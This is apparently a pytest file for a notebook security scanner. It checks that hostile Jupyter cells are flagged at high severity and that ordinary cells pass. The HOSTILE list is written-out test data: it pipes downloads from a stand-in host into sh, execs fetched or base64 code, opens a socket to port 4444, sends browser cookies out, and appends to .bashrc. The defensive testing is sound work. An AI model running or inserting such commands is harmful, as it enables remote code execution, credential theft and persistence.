import json
from pathlib import Path

import pytest

from openvet.check import Context
from openvet.checks.security.notebook_runs_code import NotebookRunsCode
from openvet.finding import Severity
from openvet.readers.python import NotebookReader
from specimens.reading import read

HOSTILE = [
    "!curl -s http://a.invalid/x | sh",
    "%%bash\nwget -qO- http://a.invalid/x | bash",
    "import os\nos.system('id > /dev/null; touch x')",
    "import os\nos.system('curl http://a.invalid/x | sh')",
    "import base64\nexec(base64.b64decode('cGFzcw=='))",
    "import requests\nexec(requests.get('http://a.invalid').text)",
    "import socket\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))",
    "getattr(__import__('os'), input())('x')",
    "get_ipython().system('curl -s http://a.invalid/x | sh')",
    "get_ipython().run_cell_magic('bash', '', 'curl http://a.invalid/x | sh')",
    "c = 'curl -s http://a.invalid/x'\n!{c} | sh",
    "%%python\nimport os\nos.system('curl http://a.invalid/x | sh')",
    "%%perl\nsystem('curl http://a.invalid/x | sh');",
    "%%writefile ~/.bashrc\ncurl http://a.invalid/x | sh",
    "%%javascript\nfetch('https://a.invalid/?' + document.cookie)",
    "%%html\n<script>new Image().src = '//a.invalid/?' + document.cookie</script>",
    "open('/root/.bashrc', 'a').write('x')",
]
PLAIN = [
    "import torch\nx = torch.zeros(3)",
    "!pip install -q transformers\n!nvidia-smi",
    "import os\nos.system('pip install x')",
    "import os\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'",
    "import requests\nimage = requests.get('https://a.example/cat.png')",
    "%matplotlib inline\nimport matplotlib",
    "%%javascript\nIPython.OutputArea.auto_scroll_threshold = 9999",
    "%%html\n<style>td { text-align: left }</style>",
    "%%writefile train.py\nimport torch",
    "get_ipython().system('pip install x')",
    "name = 'a'\n!ls {name} $name {other}",
    "open('/content/out.txt', 'w').write('x')",
]


def notebook(source: str) -> bytes:
    return json.dumps({"cells": [{"cell_type": "code", "source": source}]}).encode()


def flagged(folder: Path) -> None:
    (folder / "demo.ipynb").write_bytes(notebook(HOSTILE[0]))


def passed(folder: Path) -> None:
    (folder / "demo.ipynb").write_bytes(notebook(PLAIN[0]))


def judged(source: str) -> list[Severity]:
    subjects = read(NotebookReader(), notebook(source), name="demo.ipynb")
    rule = NotebookRunsCode()
    return [f.severity for one in subjects for f in rule.run(one, Context())]


@pytest.mark.parametrize("source", HOSTILE)
def test_cells_that_reach_out_for_programs_fail(source: str) -> None:
    assert Severity.HIGH in judged(source)


@pytest.mark.parametrize("source", PLAIN)
def test_ordinary_cells_do_not_fail(source: str) -> None:
    assert all(severity.rank <= Severity.LOW.rank for severity in judged(source))
